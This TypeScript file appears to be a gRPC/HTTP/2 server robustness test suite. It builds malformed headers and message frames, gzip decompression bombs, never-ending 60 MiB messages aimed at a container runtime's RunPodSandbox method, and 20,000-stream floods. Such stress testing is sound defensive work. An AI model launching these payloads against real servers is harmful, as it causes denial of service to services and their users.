/** What a client may do to a server of gRPC that HTTP/2 has nothing against. */
import { gzipSync } from "node:zlib";
import { type Attack, moment, repeated, say, streamAt } from "./attack.ts";
import {
  callBlock,
  callHeaders,
  data,
  END_HEADERS,
  END_STREAM,
  grpcMessage,
  headers,
  hpack,
  opening,
} from "./frames.ts";

export const grpcAttacks: Record<string, Attack> = {
  "wrong methods, paths and types": async (tools) => {
    const wrong: Record<string, string | undefined>[] = [
      { ":method": "GET" },
      { ":method": "CONNECT" },
      { ":path": undefined },
      { ":path": "" },
      { ":path": `/${"x".repeat(10_000)}` },
      { ":path": "/runtime.v1.RuntimeService/__proto__" },
      { ":path": "/runtime.v1.RuntimeService/\u00ff%00%ff" },
      { ":path": "/runtime.v1alpha2.RuntimeService/Version" },
      { ":path": "*" },
      { ":scheme": undefined },
      { ":authority": "\u0000" },
      { "content-type": "text/html" },
      { "content-type": undefined },
      { te: undefined },
      { te: "gzip" },
      { "grpc-timeout": "x" },
      { "grpc-timeout": "99999999H" },
      { "grpc-timeout": "0n" },
      { "grpc-encoding": "nonsense\u00ff" },
      { "x-bin": "!!!" },
      { connection: "keep-alive" },
      { "Upper-Case": "x" },
      { "content-length": "5" },
    ];
    await say(
      tools,
      ...wrong.map((changes, at) =>
        Buffer.concat([
          headers(streamAt(at), hpack(callHeaders(undefined, changes))),
          data(streamAt(at), grpcMessage(Buffer.alloc(0))),
        ]),
      ),
    );
    for (const changes of wrong)
      await (await tools.open()).send(
        opening(),
        headers(1, hpack(callHeaders(undefined, changes)), END_HEADERS | END_STREAM),
      );
    await moment();
  },

  "wrong messages of gRPC": async (tools) => {
    const body =
      (bytes: Buffer, changes = {}) =>
      (stream: number) =>
        Buffer.concat([headers(stream, hpack(callHeaders(undefined, changes))), data(stream, bytes)]);
    const gzip = { "grpc-encoding": "gzip" };
    const calls = [
      body(Buffer.alloc(0)),
      body(Buffer.alloc(4)),
      body(grpcMessage(Buffer.alloc(3), 100)),
      body(grpcMessage(Buffer.alloc(100), 3)),
      body(grpcMessage(Buffer.alloc(0), 2 ** 32 - 1)),
      body(grpcMessage(Buffer.alloc(0), 80 * 2 ** 20 + 1)),
      body(grpcMessage(Buffer.alloc(3), 3, 1)),
      body(grpcMessage(Buffer.alloc(3), 3, 7)),
      body(grpcMessage(Buffer.from("no gzip"), 7, 1), gzip),
      body(grpcMessage(gzipSync("abc").subarray(0, 15), 15, 1), gzip),
      body(grpcMessage(Buffer.alloc(3), 3, 1), { "grpc-encoding": "nonsense" }),
      body(Buffer.concat([grpcMessage(Buffer.alloc(0)), grpcMessage(Buffer.alloc(0))])),
      body(repeated(1000, () => grpcMessage(Buffer.alloc(0)))),
    ];
    await say(tools, ...calls.map((make, at) => make(streamAt(at))));
  },
  "bombs of gzip": async (tools) => {
    const bomb = gzipSync(Buffer.alloc(200 * 2 ** 20), { level: 9 });
    const message = grpcMessage(bomb, bomb.length, 1);
    const parts: Buffer[] = [];
    for (let at = 0; at < 4 * tools.scale; at++) {
      parts.push(headers(streamAt(at), hpack(callHeaders(undefined, { "grpc-encoding": "gzip" }))));
      for (let from = 0; from < message.length; from += 16_384)
        parts.push(data(streamAt(at), message.subarray(from, from + 16_384), 0));
    }
    const connection = await say(tools, ...parts);
    for (let waits = 0; waits < 20 && !connection.closed; waits++) await moment();
  },
  "messages that never end": async ({ open, scale }) => {
    const block = hpack(callHeaders("/runtime.v1.RuntimeService/RunPodSandbox"));
    for (let count = 0; count < 20 * scale; count++) {
      const connection = await open();
      const calls = repeated(50, (at) =>
        Buffer.concat([
          headers(streamAt(at), block),
          data(streamAt(at), grpcMessage(Buffer.alloc(1000), 60 * 2 ** 20), 0),
        ]),
      );
      await connection.send(opening(), calls);
    }
    await moment();
  },
  "more streams than are served": (tools) =>
    say(
      tools,
      repeated(20_000 * tools.scale, (at) => headers(streamAt(at), callBlock)),
    ),
};
